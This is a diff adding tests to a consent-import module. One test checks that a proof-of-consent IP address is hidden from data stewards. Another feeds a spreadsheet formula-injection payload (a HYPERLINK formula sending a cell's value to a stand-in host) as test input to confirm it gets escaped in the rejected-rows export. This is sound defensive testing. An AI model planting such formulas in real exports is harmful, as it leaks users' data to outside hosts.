@@ -150,3 +150,41 @@ class TestImportMinimisation(HygieneCommon):
         self.env["hygiene.import.batch"]._cron_delete_raw_files()
         self.assertEqual(batch.state, "cancelled")
         self.assertFalse(batch.line_ids.sudo().clean_values)
+
+
+@tagged("post_install", "-at_install")
+class TestImportLowFindings(HygieneCommon):
+    def _batch(self, text):
+        batch = (
+            self.env["hygiene.import.batch"]
+            .with_user(self.user_steward)
+            .create(
+                {
+                    "raw_file": base64.b64encode(text.encode()),
+                    "raw_filename": "optins.csv",
+                    "source_id": self.source_shop.id,
+                    "purpose_id": self.purpose_newsletter.id,
+                }
+            )
+        )
+        batch.action_read_file()
+        batch.action_stage()
+        return batch
+
+    def test_l2_proof_ip_not_in_the_values_stewards_read(self):
+        batch = self._batch(
+            "email;optin;date optin;ip\nproof@example.fr;1;2024-01-01;203.0.113.77\n"
+        )
+        line = batch.line_ids.with_user(self.user_steward)
+        self.assertNotIn("203.0.113.77", line.clean_values)
+        self.assertNotIn("203.0.113.77", line.raw_values)
+        batch.action_commit()
+        event = self.env["hygiene.consent"].search([("partner_id.email", "=", "proof@example.fr")])
+        self.assertEqual(event.with_user(self.user_officer).ip_address, "203.0.113.77")
+
+    def test_l1_rejected_rows_header_is_escaped(self):
+        batch = self._batch('nom;=HYPERLINK("https://x.test/?"&B2;email\nA;x;not an email\n')
+        rejected = batch._rejected_csv().decode("utf-8-sig")
+        header = rejected.splitlines()[0]
+        self.assertNotIn(",=HYPERLINK", header)
+        self.assertIn("'=HYPERLINK", header)
